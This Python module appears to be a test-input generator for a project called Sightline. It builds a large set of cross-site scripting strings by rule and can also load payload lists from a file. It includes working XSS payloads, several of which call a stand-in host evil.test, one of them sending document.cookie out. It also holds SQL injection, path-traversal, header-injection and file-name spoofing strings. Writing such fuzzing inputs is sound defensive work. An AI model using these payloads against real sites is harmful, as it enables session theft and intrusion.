"""Texts that would run if any page took them for markup, made by rule.

`SIGHTLINE_HOSTILE` makes more of them: `all` is every text the rules make, a number is how many,
and the name of a file adds its lines, so that lists of others can be tried as well.
"""

from __future__ import annotations

import html
import math
import os
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from urllib.parse import quote

MANY = 240
# What breaks out of where a text may have been put.
BEFORE = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</script>",
    "</textarea>",
    "-->",
    "]]>",
    "*/",
    "</style>",
)
ELEMENTS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
    "iframe src=x", "marquee", "object data=x", "select autofocus", "math", "a href=x", "style",
    "form", "button autofocus", "svg><animate", "svg><set",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpointerenter",
    "onanimationstart", "onbegin", "onclick",
)  # fmt: skip
# Pairs that need nobody to touch them.
ALIVE = (
    "img src=x onerror", "svg onload", "input autofocus onfocus", "details open ontoggle",
    "video src=x onerror", "body onload", "iframe onload", "style onload",
)  # fmt: skip
QUOTES = ("", '"', "'", "`")
DEEDS = (
    "alert(1)",
    "top.alert`1`",
    "import(/\\/\\/evil.test/)",
    "fetch('//evil.test/'+document.cookie)",
)
WHOLE = (
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<embed src=//evil.test/x>",
    "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% include 'x' %}", "__proto__",
    "constructor",
    "toString", "null", "undefined", "true", "NaN", "-1", "1e309", "' OR 1=1 --", "'; DROP TABLE x",
    "../../etc/passwd", "%00%0d%0aSet-Cookie: x=1", "a\u202egnp.exe", "\ufeffx", "x\u0301" * 20,
    "<img src='//evil.test/x.png'>", "<svg><use href='//evil.test/x.svg#x'>", "<plaintext>", "<!--",
    "<template><img src=x onerror=alert(1)></template>", "<noscript><img src=x onerror=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "&lt;script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
    "<\u017fcript>alert(1)",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip


FIRST = (*WHOLE, *(f"{b}<{a}=alert(1)>" for b in BEFORE for a in ALIVE))


def _entities(text: str) -> str:
    return html.escape(text)


def _numbers(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" if c in "<>\"'=" else c for c in text)


def _mixed(text: str) -> str:
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


def _spaced(text: str) -> str:
    return text.replace(" ", "\t\u00a0\x0c ").replace("=", " = ")


FORMS: tuple[Callable[[str], str], ...] = (
    lambda text: text, _mixed, _entities, _numbers, quote, _spaced, lambda text: text.rstrip(">"),
)  # fmt: skip


PARTS: tuple[Sequence[str], ...] = (BEFORE, ELEMENTS, HANDLERS, QUOTES, DEEDS)
COUNT = math.prod(map(len, PARTS)) * len(FORMS)


def _text(number: int) -> str:
    """Return one of the texts that the rules make, counted through all their combinations."""
    number, form = divmod(number, len(FORMS))
    parts = []
    for choices in reversed(PARTS):
        number, i = divmod(number, len(choices))
        parts.append(choices[i])
    deed, mark, handler, element, before = parts
    return FORMS[form](f"{before}<{element} {handler}={mark}{deed}{mark}>")


def every() -> Iterator[str]:
    """Yield every text that the rules make, some 200,000."""
    yield from FIRST
    yield from map(_text, range(COUNT))


def texts() -> list[str]:
    """Return those to try: some of every rule, or what SIGHTLINE_HOSTILE says."""
    wanted = os.environ.get("SIGHTLINE_HOSTILE", str(MANY))
    if wanted == "all":
        return list(dict.fromkeys(every()))
    if not wanted.isdigit():
        lines = Path(wanted).read_text(encoding="utf-8", errors="replace").split("\n")
        return [*FIRST, *dict.fromkeys(line for line in lines if line.strip())]
    # A step without a common factor with the lengths of the rules meets all of their parts.
    some = [_text(i * 7_919 % COUNT) for i in range(int(wanted))]
    return list(dict.fromkeys([*FIRST, *some]))[: int(wanted)]


def file_name(text: str, number: int) -> str:
    """Return a text as a file can be named; the number keeps names apart."""
    fitting = text.replace("/", "∕").replace("\x00", "")
    while len(fitting.encode()) > 200:
        fitting = fitting[:-1]
    return f"{fitting} {number:04d}"
